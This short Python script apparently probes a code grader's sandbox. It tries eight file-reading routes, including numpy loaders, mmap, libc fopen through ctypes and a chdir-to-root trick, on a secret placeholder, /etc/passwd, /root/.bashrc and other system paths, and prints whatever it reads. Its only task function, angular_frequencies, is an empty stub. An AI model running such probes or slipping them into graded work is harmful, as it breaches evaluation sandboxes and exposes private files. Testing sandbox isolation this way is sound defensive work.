# Reads a file of whoever runs the grader, through every call that opens one, and prints it.
import ctypes
import io
import mmap
import os

import numpy as np

libc = ctypes.CDLL(None)


def by_mmap(path):
    with open(path, "rb") as file:
        return mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:]


def by_libc(path):
    file = libc.fopen(path.encode(), b"r")
    text = ctypes.create_string_buffer(100)
    return file and libc.fread(text, 1, 99, file) and text.value


def by_up(path):
    os.chdir("/")
    return open(path.lstrip("/")).read()


ways = (lambda path: open(path).read(), io.FileIO, np.fromfile, np.loadtxt, np.memmap, by_mmap, by_libc, by_up)
for way in ways:
    for path in ("@SECRET@", "/etc/passwd", "/etc/hostname", "/root/.bashrc", "/home"):
        try:
            seen = way(path)
        except BaseException as error:
            print(type(error).__name__, end=" ")
        else:
            if seen:
                print("DONE", seen)


def angular_frequencies(d_model, base=10000.0):
    return np.zeros(0)
